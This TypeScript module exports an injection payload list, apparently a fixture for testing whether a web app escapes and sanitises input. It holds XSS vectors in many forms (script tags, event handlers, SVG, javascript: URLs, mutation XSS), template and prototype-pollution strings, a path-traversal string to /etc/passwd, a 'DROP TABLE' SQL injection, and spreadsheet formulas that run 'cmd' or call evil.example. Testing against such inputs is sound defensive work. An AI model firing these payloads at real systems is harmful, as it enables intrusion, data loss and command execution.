/** What every payload tries: a global, a dialog, or a request that nothing of ours would make. */
export const MARK = 'injected';

const RUN = `window.${MARK}=1;fetch('/${MARK}')`;
const DIALOG = 'alert(document.domain)';

const scripts = [
  `<script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `<script src=/${MARK}.js></script>`,
  `<script src=//evil.example/${MARK}.js></script>`,
  `<script type=module>import '/${MARK}.js'</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script\n>${RUN}</script\n>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
];

const handlers = [
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${DIALOG}">`,
  `"><img src=x onerror=${DIALOG}>`,
  `' onmouseover='${RUN}' x='`,
  `" onfocus="${RUN}" autofocus="`,
  `" autofocus onfocus=${DIALOG} tabindex=1 x="`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror="${RUN}">`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<div onanimationstart=${RUN} style=animation:x>`,
  `<a href=# onclick=${RUN}>x</a>`,
  `<style>@keyframes x{}</style><p style=animation-name:x onanimationend=${RUN}>`,
  `<keygen autofocus onfocus=${RUN}>`,
  `<dialog open onclose=${RUN}>`,
  `<div popover id=x onbeforetoggle=${RUN}></div><button popovertarget=x>`,
];

const svgs = [
  `<svg onload=${RUN}>`,
  `<svg/onload=${DIALOG}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href=/${MARK}.js /></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${DIALOG}"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${DIALOG}</script></svg>#x">`,
  `<svg><foreignObject><iframe srcdoc="<script>${DIALOG}</script>">`,
  `<svg><set attributeName=href to=javascript:${DIALOG}>`,
  `<math><a xlink:href=javascript:${DIALOG}>x`,
];

const frames = [
  `<iframe src=javascript:${DIALOG}>`,
  `<iframe srcdoc="<script>parent.${MARK}=1</script>">`,
  `<iframe src=/${MARK}>`,
  `<object data=javascript:${DIALOG}>`,
  `<embed src=/${MARK}.swf>`,
  `<base href=//evil.example/>`,
  `<link rel=stylesheet href=/${MARK}.css>`,
  `<link rel=import href=/${MARK}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${DIALOG}">`,
  `<meta http-equiv=refresh content="0;url=/${MARK}">`,
  `<form action=/${MARK}><input type=submit>`,
  `<form><button formaction=javascript:${DIALOG}>x</button>`,
  `<style>@import '/${MARK}.css';</style>`,
  `<style>*{background:url(/${MARK}.png)}</style>`,
  `<img src=/${MARK}.png>`,
  `<img srcset="/${MARK}.png 1x">`,
  `<picture><source srcset=/${MARK}.png><img></picture>`,
  `<video poster=/${MARK}.png>`,
];

const addresses = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${DIALOG}`,
  ` javascript:${DIALOG}`,
  `java\tscript:${DIALOG}`,
  `java\nscript:${DIALOG}`,
  `\u0001javascript:${DIALOG}`,
  `javascript&colon;${DIALOG}`,
  `javascript://%0a${DIALOG}`,
  `data:text/html,<script>${DIALOG}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
  `//evil.example/${MARK}`,
  `https://evil.example/${MARK}?javascript:${DIALOG}`,
  `blob:https://evil.example/${MARK}`,
];

const templates = [
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '`${window.injected=1}`',
  '<%= 7*7 %>',
  '#{7*7}',
  '{@html "<img src=x onerror=alert(1)>"}',
  '{#if true}x{/if}',
  '%sveltekit.head%',
  "$& $1 $` $' $$",
  '__proto__',
  'constructor',
  'toString',
  '{"__proto__":{"injected":1}}',
  '%s%n%x%d',
  '../../../../etc/passwd',
  "'; DROP TABLE documents; --",
];

const entities = [
  `&lt;script&gt;${DIALOG}&lt;/script&gt;`,
  `&#60;img src=x onerror=${DIALOG}&#62;`,
  `&#x3c;svg onload=${DIALOG}&#x3e;`,
  '&amp;lt;b&amp;gt;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  `%3Cscript%3E${DIALOG}%3C/script%3E`,
  `\uff1cscript\uff1e${DIALOG}\uff1c/script\uff1e`,
  `+ADw-script+AD4-${DIALOG}+ADw-/script+AD4-`,
];

/** Markup that changes its meaning when it is parsed a second time. */
const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${DIALOG}>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${DIALOG}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${DIALOG}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${DIALOG}>`,
  `<listing>&lt;img onerror="${DIALOG}" src=x&gt;</listing>`,
  `<template><script>${RUN}</script></template>`,
  `<xmp><p title="</xmp><svg/onload=${DIALOG}>">`,
  `<!--><img src=x onerror=${DIALOG}>-->`,
  `<![CDATA[><img src=x onerror=${DIALOG}>]]>`,
  `<a id=session><a id=session name=lock href="javascript:${DIALOG}">`,
];

const characters = [
  '\u202egnp.exe\u202c <b>rechts</b>',
  '\u2066\u2067\u2068verdreht\u2069\u2069\u2069',
  'un\u200bsicht\u200c\u200dbar\ufeff',
  `null\u0000<script>${DIALOG}</script>`,
  '\u0000\u0001\u0002\u0007\u0008\u001b[31mrot',
  '\ud800 allein \udfff',
  'Z\u0351\u036b\u0343a\u0328\u0321l\u0315\u034eg\u0322o\u0489',
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}'.repeat(20),
  '\u2028window.injected=1\u2029',
  `${'A'.repeat(190)}<img src=x onerror=${DIALOG}>`,
  'x'.repeat(19_000),
  '<b>'.repeat(3000),
];

/** Cells that a table program would reckon with. */
export const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/injected","Klick")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML("http://evil.example/injected","//a")',
  ';=1+1',
  '"=1+1"',
  '\uff1d1+1',
  '|=1+1',
];

export const PAYLOADS: readonly string[] = [
  ...scripts,
  ...handlers,
  ...svgs,
  ...frames,
  ...addresses,
  ...templates,
  ...entities,
  ...mutations,
  ...characters,
  ...FORMULAS,
];
